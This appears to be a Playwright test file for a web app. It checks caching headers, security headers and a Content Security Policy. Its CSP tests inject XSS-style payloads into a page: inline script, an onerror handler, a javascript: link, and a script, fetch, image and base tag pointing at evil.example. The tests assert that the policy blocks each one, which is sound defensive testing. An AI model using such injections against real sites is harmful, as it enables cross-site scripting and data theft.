import { expect, open, test } from './fixtures'

test('pages are revalidated, and what they load is kept for a year', async ({ request, page }) => {
  const cacheOf = async (address: string) => (await request.get(address)).headers()['cache-control']
  await open(page, '/pricing')
  const script = await page.evaluate(
    () => performance.getEntriesByType('resource').find(({ name }) => name.endsWith('.js'))!.name,
  )
  expect(await cacheOf(script)).toBe('public, max-age=31536000, immutable')
  for (const address of ['/', '/pricing', '/services/finance/loans', '/blog/fitness', '/dashboard'])
    expect(await cacheOf(address), address).toBe('no-cache')
})

test('every answer has the headers that protect it', async ({ request }) => {
  for (const address of [
    '/',
    '/services/legal',
    '/no/such/page',
    '/favicon.svg',
    '/rest/v1/posts',
  ]) {
    const headers = (await request.get(address)).headers()
    expect(headers, address).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'strict-origin-when-cross-origin',
      'cross-origin-opener-policy': 'same-origin',
      'strict-transport-security': expect.stringContaining('max-age='),
      'permissions-policy': expect.stringContaining('camera=()'),
    })
    const policy = headers['content-security-policy']!
    expect(policy).toContain("default-src 'none'")
    expect(policy).toContain("frame-ancestors 'none'")
    expect(policy.match(/script-src [^;]*/)![0]).not.toMatch(/unsafe|\*|data:|https?:/)
  }
})

test.describe('the policy', () => {
  test.use({ expectedErrors: /Content Security Policy|ERR_BLOCKED_BY_CSP/ })

  const attacks = {
    'a script within the page': () => {
      const script = document.createElement('script')
      script.textContent = 'document.title = "taken"'
      document.body.append(script)
    },
    'a handler in markup': () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="" onerror="document.title=1">')
    },
    'a javascript: link': () => {
      const link = document.createElement('a')
      link.href = 'javascript:void(document.title="taken")'
      document.body.append(link)
      link.click()
    },
    'a script from elsewhere': () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/script.js'
      document.body.append(script)
    },
    'a request to elsewhere': () => {
      fetch('https://evil.example/').catch(() => undefined)
    },
    'a picture from elsewhere': () => {
      new Image().src = 'https://evil.example/picture.png'
    },
    'a base for the links': () => {
      document.head.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">')
    },
    'a style within the page': () => {
      document.head.insertAdjacentHTML('beforeend', '<style>body { display: none }</style>')
    },
  }

  test('blocks what is not of the site, and logs an error that would fail any other test', async ({
    page,
  }) => {
    await open(page, '/about')
    const title = await page.title()
    for (const [what, attack] of Object.entries(attacks)) {
      const logged = page.waitForEvent('console', (message) => message.type() === 'error')
      await page.evaluate(attack)
      expect((await logged).text(), what).toContain('Content Security Policy')
    }
    await expect(page).toHaveTitle(title)
    await expect(page).toHaveURL('/about')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  })

  test('lets nobody frame a page', async ({ page }) => {
    await page.route('/framing', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<iframe src="/pricing"></iframe>' }),
    )
    const logged = page.waitForEvent('console', (message) => message.type() === 'error')
    await page.goto('/framing')
    expect((await logged).text()).toContain('frame-ancestors')
    await expect(page.frameLocator('iframe').getByText('$29')).toBeHidden()
  })
})
